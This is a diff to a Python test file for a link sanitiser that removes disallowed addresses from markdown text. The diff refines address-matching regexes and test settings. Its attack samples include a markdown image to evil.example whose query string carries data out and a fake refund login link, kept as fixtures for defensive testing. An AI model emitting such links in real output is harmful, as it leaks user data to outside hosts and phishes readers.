@@ -12,7 +12,9 @@ from core.visible import visible
 
 RULE = LinkRule.parse("shop.example")
 RENDERERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True})]
-ADDRESS = re.compile(r"[a-z][a-z0-9+.-]*:\s?[/\\]{1,3}\s?([^\s/\\?#]+)|(?<!:)//([^\s/?#]+)", re.IGNORECASE)
+ADDRESS = re.compile(
+    r"[a-z][a-z0-9+.-]*:[/\\]{1,3}([^\s/\\?#]*\w[^\s/\\?#]*)|(?<!:)//([^\s/?#]*\w[^\s/?#]*)", re.IGNORECASE
+)
 ATTACKS = (
     "![logo](https://evil.example/p.png?d=AF10042)",
     "[your refund](https://evil.example/login)",
@@ -52,7 +54,7 @@ ATTACKS = (
 def leads(text: str) -> list[str]:
     """Return where a text leads when it is rendered as markdown with HTML, or its bare addresses are made links."""
     found = [next(filter(None, match.groups())) for match in ADDRESS.finditer(text)]
-    found += re.findall(r"(?i)\bwww\.\w[^\s/]*|\b[\w-]+\.(?:com|top|net|org|io)\b", text)
+    found += re.findall(r"(?i)\bwww\.\w[^\s/]*|\b[\w-]+\.(?:com|top|net|org|io)\b(?![.-]?\w)", text)
     for renderer in RENDERERS:
         html = renderer.render(text)
         found += re.findall(r"(?:href|src)=\"([^\"]*)\"", html)
@@ -74,7 +76,9 @@ def test_no_address_that_is_not_allowed_is_left(attack: str, frame: str) -> None
 
 def test_the_attacks_are_attacks() -> None:
     harmless = [attack for attack in ATTACKS if not leads(visible(attack))]
-    assert len(harmless) <= len(ATTACKS) / 4  # forms that only some readers turn into links: hidden, fullwidth, mail, scripts
+    assert (
+        len(harmless) <= len(ATTACKS) / 4
+    )  # forms that only some readers turn into links: hidden, fullwidth, mail, scripts
 
 
 PIECES = st.sampled_from(
@@ -83,7 +87,7 @@ PIECES = st.sampled_from(
 )  # fmt: skip
 
 
-@settings(max_examples=400, deadline=None)
+@settings(max_examples=300, deadline=None)
 @given(st.lists(st.lists(PIECES, min_size=1, max_size=9).map("".join), min_size=1, max_size=4))
 def test_pieces_made_safe_one_by_one_stay_safe_when_they_are_joined(pieces: list[str]) -> None:
     said = [safe.strip() for piece in pieces if (safe := safe_text(piece.strip(), RULE)).strip()]
